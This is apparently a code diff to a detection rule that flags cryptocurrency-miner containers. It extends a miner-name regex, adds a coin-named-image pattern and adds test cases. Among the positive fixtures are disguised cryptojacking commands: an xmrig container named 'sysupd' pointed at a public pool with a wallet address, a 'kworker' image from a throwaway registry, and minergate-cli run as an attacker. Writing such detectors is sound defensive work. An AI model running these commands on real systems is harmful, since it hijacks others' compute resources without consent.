@@ -11,7 +11,10 @@ const STRATUM = /\bstratum\d?\+(?:tcp|ssl|tls)(?::|%3a)\/\/|\bstratum:\/\//i;
 
 /** Miner programs, by the names their releases ship under (matched on the basename, any case). */
 const MINER_PROGRAM =
-  /^(?:xmrig(?:-notls|-cuda|-opencl|-nvidia|-amd)?|xmr-stak(?:-rx|-cpu)?|cpuminer(?:-opt|-multi|-gr)?|minerd|ccminer|cgminer|bfgminer|ethminer|kawpowminer|t-rex|trex|onezerominer|lolminer|nbminer|gminer|miner\.gminer|phoenixminer|teamredminer|nanominer|srbminer(?:-multi)?|bzminer|rigel|nheqminer|wildrig(?:-multi)?|ethdcrminer64|xmrminer)(?:\.exe)?$/i;
+  /^(?:xmrig(?:-notls|-cuda|-opencl|-nvidia|-amd)?|xmr-stak(?:-rx|-cpu)?|cpuminer(?:-opt|-multi|-gr)?|minerd|ccminer|cgminer|bfgminer|ethminer|kawpowminer|t-rex|trex|onezerominer|lolminer|nbminer|gminer|miner\.gminer|phoenixminer|teamredminer|nanominer|srbminer(?:-multi)?|bzminer|rigel|nheqminer|wildrig(?:-multi)?|ethdcrminer64|xmrminer|minergate(?:-cli)?)(?:\.exe)?$/i;
+
+/** An image named for the coin it mines (`throwaway/xmr`, `monero-miner`): only a miner ships as one. */
+const COIN_IMAGE = /^(?:xmr|monero|randomx)(?:[-_](?:miner|mine|cpu|gpu|worker|node))?$/i;
 
 /** Public mining pools (host suffixes): a connection there is mining whatever the program is called. */
 const POOL_HOST =
@@ -100,7 +103,7 @@ export default defineRule({
     }
     for (const c of facts.of('container')) {
       const name = (c.image ?? '').replace(/[:@].*$/, '').replace(/^.*\//, '');
-      if (!MINER_PROGRAM.test(name)) continue;
+      if (!MINER_PROGRAM.test(name) && !COIN_IMAGE.test(name)) continue;
       found = true;
       yield { span: c.span, reason: `the image ${c.image} runs a miner`, suggestedAlternative: null };
     }
@@ -128,6 +131,15 @@ export default defineRule({
       {
         input:
           'docker run -d --restart=always --name sysupd xmrig/xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
+        runtime: 'docker',
+      },
+      {
+        input: 'docker run -d --restart=always --cpus=0 --name kworker ghcr.io/throwaway991/xmr:latest',
+        runtime: 'docker',
+      },
+      {
+        input:
+          'docker run -d --restart unless-stopped --cpus 4 minergate/minergate-cli -user attacker@mail.example -xmr 4',
         runtime: 'docker',
       },
       {
@@ -160,6 +172,11 @@ export default defineRule({
         input: 'docker run -d --restart=always -p 127.0.0.1:8080:8080 acme/miner-dashboard:1.4',
         runtime: 'docker',
         why: 'an image whose name only contains the word',
+      },
+      {
+        input: 'docker run -d -p 127.0.0.1:18081:18081 sethsimmons/simple-monerod:latest',
+        runtime: 'docker',
+        why: 'a Monero node, not a miner',
       },
       {
         input: 'node scripts/mine-blocks.js --network hardhat',
